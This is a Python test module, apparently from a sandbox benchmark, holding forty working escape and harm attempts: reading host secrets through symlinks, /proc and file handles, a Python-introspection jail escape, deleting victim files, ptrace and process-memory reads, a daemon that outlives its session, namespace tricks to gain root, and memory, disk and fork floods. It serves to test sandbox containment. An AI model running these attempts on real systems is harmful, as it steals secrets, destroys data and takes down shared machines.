"""Forty attempts of a program to get out of its sandbox, or to harm the machine; each says what it got, or fails.

This module is run inside the sandbox, by itself: `python -c SOURCE NAME JSON`, where the object says where the host's
secrets and victims are. So it needs the standard library alone. Attempts are sized so that as plain processes, which
the benchmark runs too, they pass the sandbox's bounds without hurting the machine.
"""

# Programs that want to get out do not use pathlib.
# ruff: noqa: PTH101, PTH104, PTH108, PTH116, PTH118, PTH119, PTH120, PTH123, PTH208, PTH211
from __future__ import annotations

import contextlib
import ctypes
import fcntl
import json
import os
import resource
import signal
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from typing import Any

MIB = 1 << 20
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
X86 = os.uname().machine == "x86_64"
ATTEMPTS: dict[str, Callable[[Any], str]] = {}


def attempt(function: Callable[[Any], str]) -> Callable[[Any], str]:
    ATTEMPTS[function.__name__] = function
    return function


def made(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def read(path: str) -> str:
    with open(path, "rb") as file:
        return file.read(1 << 16).decode(errors="replace")


# --- files ------------------------------------------------------------------------------------------------------------


@attempt
def read_a_secret_file(host: Any) -> str:
    return read(host["secret"])


@attempt
def read_it_by_dots(host: Any) -> str:
    return read(os.path.join(host["workspace"], os.path.relpath(host["secret"], host["workspace"])))


@attempt
def read_it_by_a_symlink(host: Any) -> str:
    os.symlink(host["secret"], os.path.join(host["workspace"], "soft"))
    return read(os.path.join(host["workspace"], "soft"))


@attempt
def read_it_by_a_hard_link(host: Any) -> str:
    os.link(host["secret"], os.path.join(host["workspace"], "hard"))
    return read(os.path.join(host["workspace"], "hard"))


@attempt
def read_it_by_introspection(host: Any) -> str:
    """As programs get out of sandboxes in the process (smolagents#2094, #2395)."""
    base: Any = ().__class__.__base__
    for kind in base.__subclasses__():
        spaces = getattr(kind.__init__, "__globals__", {})
        if "sys" in spaces:
            path, system = host["secret"], spaces["sys"].modules["os"]
            return str(system.read(system.open(path, 0), 100).decode())
    return ""


@attempt
def read_it_by_libc(host: Any) -> str:
    file = made(LIBC.open(host["secret"].encode(), 0))
    return os.read(file, 100).decode()


@attempt
def read_it_by_its_handle(host: Any) -> str:
    handle, mount = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128)), ctypes.c_int()
    made(LIBC.name_to_handle_at(-100, host["secret"].encode(), handle, ctypes.byref(mount), 0))
    where = os.open("/", os.O_RDONLY)
    return os.read(made(LIBC.open_by_handle_at(where, handle, 0)), 100).decode()


@attempt
def read_what_the_host_has_open(host: Any) -> str:
    for descriptor in range(3, 256):
        with contextlib.suppress(OSError):
            if found := os.pread(descriptor, 100, 0):
                return found.decode(errors="replace")
    return ""


@attempt
def list_a_folder(host: Any) -> str:
    return " ".join(os.listdir(os.path.dirname(host["secret"])))


@attempt
def append_to_a_file(host: Any) -> str:
    with open(host["victim"], "r+") as file:  # an older one: a file of its own would be no harm
        file.write("harm")
    return "written"


@attempt
def cut_a_file(host: Any) -> str:
    os.truncate(host["victim"], 0)
    return "cut"


@attempt
def delete_a_file(host: Any) -> str:
    os.unlink(host["victim"])
    return "deleted"


@attempt
def move_a_file(host: Any) -> str:
    os.rename(host["victim"], os.path.join(host["workspace"], "taken"))
    return "moved"


@attempt
def change_a_files_mode_and_time(host: Any) -> str:
    os.chmod(host["victim"], 0o777)
    os.utime(host["victim"], (1, 1))
    return ""  # whether it was done is seen at the file


@attempt
def leave_a_setuid_file(host: Any) -> str:
    path = os.path.join(host["workspace"], "setuid")
    with contextlib.suppress(OSError):
        os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o4755))
    os.chmod(path, 0o4755)
    return "left" if os.stat(path).st_mode & 0o4000 else ""


@attempt
def write_into_the_system(host: Any) -> str:
    """Where the system's programs are, and wherever else there may be room."""
    for folder in ("/usr/bin", "/usr", "/etc", "/", "/var/tmp", "/dev", "/run", "/home", "/opt"):
        path = os.path.join(folder, f"harm-{os.getpid()}")
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
            os.unlink(path)
            return f"a file in {folder}"
    return ""


# --- what the kernel shows --------------------------------------------------------------------------------------------


@attempt
def read_the_environment(host: Any) -> str:
    return host["word"] if host["word"] in os.environ.values() else ""


@attempt
def read_a_process_by_proc(host: Any) -> str:
    found = ""
    for name in ("environ", f"root{host['secret']}", f"cwd/{os.path.basename(host['secret'])}", "maps"):
        with contextlib.suppress(OSError):
            found += read(f"/proc/{host['pid']}/{name}")
    return found


@attempt
def change_the_kernels_settings(host: Any) -> str:
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/mm/transparent_hugepage/enabled"):
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY))
            return f"{path} opens for writing"
    return ""


@attempt
def look_at_the_hardware(host: Any) -> str:
    return " ".join(os.listdir("/sys/class/net"))


@attempt
def open_the_disks_and_memory(host: Any) -> str:
    for path in (
        "/dev/vda",
        "/dev/sda",
        "/dev/nvme0n1",
        "/dev/xvda",
        "/dev/mem",
        "/dev/kmsg",
        "/dev/fuse",
        "/dev/net/tun",
    ):
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            return f"{path} opens"
    return ""


@attempt
def make_a_device(host: Any) -> str:
    path = os.path.join(host["workspace"], "device")
    os.mknod(path, 0o020666, os.makedev(1, 5))
    return "made"


@attempt
def read_shared_memory(host: Any) -> str:
    found = ""
    with contextlib.suppress(OSError):
        found = read(host["shared_file"])
    LIBC.shmat.restype = ctypes.c_void_p
    at = LIBC.shmat(host["shared"], None, 0o10000)
    return found + (ctypes.string_at(at, 64).decode(errors="replace") if at and at != ctypes.c_void_p(-1).value else "")


# --- network ----------------------------------------------------------------------------------------------------------


@attempt
def connect_by_tcp(host: Any) -> str:
    with socket.create_connection(("127.0.0.1", host["tcp"]), timeout=3) as connection:
        return connection.recv(100).decode()


@attempt
def send_by_udp(host: Any) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(2)
        sender.sendto(b"secret", ("127.0.0.1", host["udp"]))
        return sender.recv(100).decode()


@attempt
def connect_to_an_abstract_socket(host: Any) -> str:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\0" + host["abstract"])
        return connection.recv(100).decode()


@attempt
def connect_to_a_socket_file(host: Any) -> str:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(host["socket_file"])
        return connection.recv(100).decode()


@attempt
def ask_the_kernel_by_sockets(host: Any) -> str:
    got = []
    for name, family, kind in (("netlink", 16, 3), ("vsock", 40, 1), ("packet", 17, 3), ("alg", 38, 5), ("raw", 2, 3)):
        with contextlib.suppress(OSError):
            socket.socket(family, kind, 1 if family == 2 else 0).close()
            got.append(name)
    return " ".join(got)


# --- processes --------------------------------------------------------------------------------------------------------


@attempt
def kill_a_process(host: Any) -> str:
    os.kill(host["pid"], signal.SIGKILL)
    return "killed"


@attempt
def limit_a_process(host: Any) -> str:
    resource.prlimit(host["pid"], resource.RLIMIT_CORE, (0, 0))
    return "limited"


@attempt
def trace_a_process(host: Any) -> str:
    made(LIBC.ptrace(0x4206, host["pid"], None, None))  # PTRACE_SEIZE
    return "traced"


@attempt
def read_a_process_memory(host: Any) -> str:
    into = ctypes.create_string_buffer(len(host["word"]))
    mine, theirs = (struct.pack("=QQ", at, len(host["word"])) for at in (ctypes.addressof(into), host["address"]))
    made(LIBC.process_vm_readv(host["pid"], mine, 1, theirs, 1, 0))
    return into.raw.decode(errors="replace")


@attempt
def fork_many_processes(host: Any) -> str:
    count = 0
    with contextlib.suppress(OSError):
        while count < 4 * host["processes"]:
            if os.fork() == 0:
                time.sleep(3)
                os._exit(0)
            count += 1
    return f"{count} processes" if count > 2 * host["processes"] else ""


@attempt
def start_many_threads(host: Any) -> str:
    threading.stack_size(1 << 16)
    count = 0
    with contextlib.suppress(RuntimeError):
        while count < 4 * host["processes"]:
            threading.Thread(target=time.sleep, args=(1,), daemon=True).start()
            count += 1
    if count > 2 * host["processes"]:
        print(f"ESCAPED: {count} threads", flush=True)
    os._exit(0)


@attempt
def stay_behind(host: Any) -> str:
    """A daemon: forked twice, in a session of its own, that closes what ties it to who started it."""
    if os.fork() == 0:
        with contextlib.suppress(OSError):
            os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            os.closerange(0, 64)
            for _ in range(100):
                with open(os.path.join(host["workspace"], "alive"), "w") as file:
                    file.write(str(time.time()))
                time.sleep(0.1)
        os._exit(0)
    time.sleep(0.5)
    return ""  # whether it lives is seen at its file


@attempt
def spin_and_ignore_signals(host: Any) -> str:
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    until = time.monotonic() + 4 * host["seconds"]
    while time.monotonic() < until:
        pass
    return "spun to the end"


# --- rights and the kernel --------------------------------------------------------------------------------------------


@attempt
def become_root(host: Any) -> str:
    """By a call, by a new user namespace, or by capabilities that are still there."""
    header, sets = struct.pack("=Ii", 0x20080522, 0), ctypes.create_string_buffer(24)
    made(LIBC.capget(header, sets))
    effective = struct.unpack("=6I", sets.raw)[0]
    if effective:
        return f"capabilities {effective:x}"
    with contextlib.suppress(OSError):
        os.setuid(0)
        return "setuid(0)"
    made(LIBC.unshare(0x10000000))
    return "a user namespace"


@attempt
def mount_something(host: Any) -> str:
    made(LIBC.unshare(0x10020000) if os.getuid() else LIBC.unshare(0x00020000))
    made(LIBC.mount(b"none", b"/", None, 0x44000, None))
    made(LIBC.mount(b"none", host["workspace"].encode(), b"tmpfs", 0, None))
    return "mounted"


@attempt
def use_risky_calls(host: Any) -> str:
    got = []
    calls = {
        "io_uring": (425, 425, 4, ctypes.create_string_buffer(256)),
        "add_key": (248, 217, b"user", b"escape", b"x", 1, -2),
        "userfaultfd": (323, 282, 1),
        "perf_event_open": (298, 241, struct.pack("=IIQ", 1, 112, 0) + bytes(96), 0, -1, -1, 0),
        "bpf": (321, 280, 0, struct.pack("=4I", 2, 4, 8, 1) + bytes(56), 72),
        "kcmp": (312, 272, os.getpid(), os.getppid(), 0, 0, 0),
    }
    for name, (x86, arm, *arguments) in calls.items():
        if LIBC.syscall(x86 if X86 else arm, *arguments) >= 0:
            got.append(name)
    return " ".join(got)


@attempt
def type_on_the_terminal(host: Any) -> str:
    terminals = [0, 1, 2]
    with contextlib.suppress(OSError):
        terminals.append(os.open("/dev/tty", os.O_RDWR))
    for terminal in terminals:
        with contextlib.suppress(OSError):
            fcntl.ioctl(terminal, 0x5412, b"h")
            return "typed"
    return ""


# --- memory, disk, output ---------------------------------------------------------------------------------------------


@attempt
def fill_memory(host: Any) -> str:
    held = [bytearray(b"x") * (16 * MIB) for _ in range(3 * host["memory"] // (16 * MIB))]
    return f"{len(held) * 16} MiB"


@attempt
def fill_memory_by_many(host: Any) -> str:
    """Each process stays below the bound; together they do not."""
    ready, done = os.pipe(), os.pipe()
    each = host["memory"] // 2
    for _ in range(6):
        if os.fork() == 0:
            held = bytearray(b"x") * each
            os.write(ready[1], b"1")
            os.read(done[0], 1)
            os._exit(len(held) == 0)
    for _ in range(6):
        os.read(ready[0], 1)
    time.sleep(0.5)
    os.write(done[1], b"111111")
    return f"{6 * each // MIB} MiB"


@attempt
def fill_memory_by_files(host: Any) -> str:
    """Memory that is no process's: files in memory, and in temporary file systems."""
    held, size = [], 0
    for make in (lambda: LIBC.memfd_create(b"x", 0), lambda: made(LIBC.open(b"/dev/shm", 0o20200002, 0o600))):
        with contextlib.suppress(OSError):
            while size < 3 * host["memory"]:
                held.append(made(make()))
                size += os.write(held[-1], bytes(8 * MIB))
    return f"{size // MIB} MiB" if size > host["memory"] else ""


@attempt
def fill_the_disk(host: Any) -> str:
    size = 0
    for number in range(2 * host["disk"] // (4 * MIB)):
        with open(os.path.join(host["workspace"], f"big{number}"), "wb", buffering=0) as file:
            size += file.write(os.urandom(MIB) * 4)
        time.sleep(0.02)
    return f"{size // MIB} MiB"


@attempt
def fill_the_disk_unseen(host: Any) -> str:
    """By files that have no name any more."""
    held, size = [], 0
    for _ in range(2 * host["disk"] // (4 * MIB)):
        path = os.path.join(host["workspace"], "gone")
        held.append(open(path, "wb", buffering=0))  # noqa: SIM115
        os.unlink(path)
        size += held[-1].write(os.urandom(MIB) * 4)
        time.sleep(0.02)
    return f"{size // MIB} MiB"


@attempt
def write_a_huge_file(host: Any) -> str:
    path = os.path.join(host["workspace"], "huge")
    with open(path, "wb") as file:
        os.ftruncate(file.fileno(), 1 << 40)
    return f"{os.stat(path).st_size >> 30} GiB"


@attempt
def flood_the_output(host: Any) -> str:
    for _ in range(64):
        os.write(1, b"flood" * (MIB // 5))
    return ""  # what is kept of it is seen at the result


if __name__ == "__main__":
    try:
        got = ATTEMPTS[sys.argv[1]](json.loads(sys.argv[2]))
    except (OSError, MemoryError, RuntimeError, ValueError) as error:
        print(f"blocked: {type(error).__name__}: {error}", file=sys.stderr)
    else:
        print(f"ESCAPED: {got}" if got else "nothing", flush=True)
